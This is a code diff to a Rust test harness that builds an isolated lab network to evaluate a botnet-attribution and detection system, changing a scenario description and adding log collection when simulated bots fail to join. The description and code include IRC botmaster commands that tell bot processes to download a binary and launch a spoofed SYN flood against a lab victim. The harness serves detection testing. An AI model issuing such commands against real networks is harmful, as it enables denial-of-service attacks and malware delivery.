@@ -7,25 +7,27 @@
 //!           web  192.0.2.80     benign web server
 //!        victim  198.18.0.5     HTTP service on 80, tcpdump of its interface
 //!        center  10.77.250.2    ashiato center (mutual TLS, port 8443)
-//!  host1..hostN  10.77.K.2      bot hosts (ircbot + benign curl) and benign hosts (curl)
+//!  host1..hostN  10.77.K.2      ashiato agent on each; bot hosts run ircbot and curl,
+//!                               benign hosts curl only
 //!            \________ all joined by veths to one router namespace, which also
 //!                      answers DNS (cc.botnet.lab, dl.botnet.lab, www.example.lab, ...)
 //! ```
 //!
-//! The story: every host records its history (tcpdump of its interface) and which process
-//! owns which socket (`/proc` samples). Benign processes (curl) fetch pages from `web` and
-//! from the victim's service throughout. On the bot hosts a separate process, `ircbot` (this
-//! binary's hidden `hostlab bot` mode, started under that name), resolves `cc.botnet.lab`,
-//! joins `#ops` on the real ngircd. The botmaster (the lab itself, first in the channel and
-//! so its operator) says `!get http://dl.botnet.lab/update.bin` (an ELF, found by content,
-//! not by name) and then `!flood 198.18.0.5 80 SECS RATE 50`: half of the SYNs spoofed. The
-//! victim files its claim from its own capture with `ashiato report --pcap` (the SYN-flood
-//! detector writes the EVE alerts the center asks for). Each host fetches the signed claim
-//! list, audits its history with `ashiato hostcheck --list`, and reports the destinations of
-//! the processes that showed one of the five features near the attack (never packet
-//! contents). The lab then asks the center for `GET /v1/ranking/{incident}` and checks: the
-//! C&C first, the download server second, every bot reported and nothing else, the records
-//! naming `ircbot` and no benign destination (web, victim, resolver, center).
+//! The story: every host runs `ashiato agent --once` on its interface (with `--forensic`:
+//! a tcpdump and `/proc` samples instead, see [`crate::hostlab_host`]). Benign processes
+//! (curl) fetch pages from `web` and from the victim's service throughout. On the bot hosts a
+//! separate process, `ircbot` (this binary's hidden `hostlab bot` mode, started under that
+//! name), resolves `cc.botnet.lab` and joins `#ops` on the real ngircd. The botmaster (the
+//! lab itself, first in the channel and so its operator) says
+//! `!get http://dl.botnet.lab/update.bin` (an ELF, found by content, not by name) and then
+//! `!flood 198.18.0.5 80 SECS RATE 50`: half of the SYNs spoofed. The victim files its claim
+//! from its own capture with `ashiato report --pcap` (the SYN-flood detector writes the EVE
+//! alerts the center asks for). The lab stops the agents; each polls the signed claim list,
+//! audits its history and reports the destinations of the processes that showed one of the
+//! five features near the attack (never packet contents). The lab then asks the center for
+//! `GET /v1/ranking/{incident}` and checks: the C&C first, the download server in the top
+//! two, every bot host reported its bot process and no benign host reported a process, the
+//! records naming `ircbot` and no benign destination (web, victim, resolver, center).
 //!
 //! Seeded: which hosts are bots, the number of benign-only hosts (2 or 3 unless `--benign`),
 //! the flood rate (200-400 SYNs/s per bot), the bots' spoofed sources and the benign
@@ -420,9 +422,20 @@ pub fn run(a: &HostlabArgs) -> Result<()> {
         nicks.insert(nick);
     }
     let want = nicks.clone();
-    master.wait(Duration::from_secs(15), "the bots to join", |_, present| {
-        want.is_subset(present)
-    })?;
+    master
+        .wait(Duration::from_secs(15), "the bots to join", |_, present| {
+            want.is_subset(present)
+        })
+        .with_context(|| {
+            let logs: Vec<String> = (0..n)
+                .filter(|&k| is_bot[k])
+                .map(|k| {
+                    let l = std::fs::read_to_string(dirs[k].join("ircbot.log")).unwrap_or_default();
+                    format!("host{}: {}", k + 1, l.trim())
+                })
+                .collect();
+            format!("bots' output: {}", logs.join("; "))
+        })?;
     let got = master.command(
         "!get http://dl.botnet.lab/update.bin",
         &nicks,
